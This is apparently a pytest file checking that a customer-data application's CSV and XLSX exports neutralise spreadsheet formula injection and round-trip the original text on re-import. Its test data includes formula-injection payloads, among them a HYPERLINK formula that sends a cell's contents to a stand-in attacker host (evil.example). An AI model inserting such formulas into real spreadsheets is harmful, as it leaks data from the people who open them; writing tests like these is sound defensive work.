"""Exports never hand Excel a live formula, and a re-import gives the original text back (issue 15)."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from db.schema import Customer
from station.customers import CustomerFilter
from station.exports import export_customers, export_rows
from station.imports import apply_import, preview_customers
from station.imports.file_rows import raw_rows
from station.workspace import Workspace

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A2,"点击")', "+1+2", "-2+3", "@SUM(A1)", "=1+2")


def _csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_csv_cells_that_start_a_formula_get_a_quote_and_read_back_as_written(tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    export_rows(["名称", "值"], [[text, -5] for text in HOSTILE] + [["\t=1+2", 1], ["ok", 1]], out)
    cells = _csv_cells(out)[1:]
    assert all(row[0].startswith("'") for row in cells[:-1]) and cells[-1][0] == "ok"
    assert {row[1] for row in cells[: len(HOSTILE)]} == {"-5"}  # a number stays a number
    rows, _ = raw_rows(out)
    assert [r[1][0] for r in list(rows)[1:]] == [*HOSTILE, "\t=1+2", "ok"]


def test_xlsx_cells_are_typed_as_text_never_formulas(tmp_path: Path) -> None:
    out = tmp_path / "x.xlsx"
    export_rows(["名称"], [[text] for text in HOSTILE], out)
    sheet = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    ws = load_workbook(out).active
    assert [c.value for c in ws["A"]][1:] == list(HOSTILE)  # type: ignore[index,union-attr]
    assert {c.data_type for c in ws["A"]} == {"s"}  # type: ignore[index,union-attr]


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_a_customer_named_like_a_formula_round_trips(workspace: Workspace, tmp_path: Path, suffix: str) -> None:
    src = tmp_path / "c.csv"
    src.write_text("户号,户名,用电类别,电压等级,用电地址\n"
                   f'3300000001,"{HOSTILE[0].replace(chr(34), chr(34) * 2)}",居民生活,220V,@SUM(A1)\n',
                   encoding="utf-8")
    with workspace.sessions.begin() as s:
        apply_import(s, preview_customers(s, src), workspace.operator)
    out = tmp_path / f"out.{suffix}"
    with workspace.sessions() as s:
        export_customers(s, CustomerFilter(), out)
        again = preview_customers(s, out)
        stored = s.execute(select(Customer.name, Customer.address)).one()
    assert tuple(stored) == (HOSTILE[0], "@SUM(A1)")
    assert (again.unchanged, again.rejected) == (1, 0)


def test_the_import_keeps_a_leading_tab_that_guards_a_formula(workspace: Workspace, tmp_path: Path) -> None:
    src = tmp_path / "c.csv"
    src.write_text("户号,户名,用电类别,电压等级\n3300000001,\"\t=1+2\",居民生活,220V\n3300000002,\" 张三 \",居民生活,220V\n",
                   encoding="utf-8")
    with workspace.sessions.begin() as s:
        apply_import(s, preview_customers(s, src), workspace.operator)
        names = sorted(s.scalars(select(Customer.name)))
    assert names == ["\t=1+2", "张三"]  # not "=1+2"; ordinary text is still trimmed
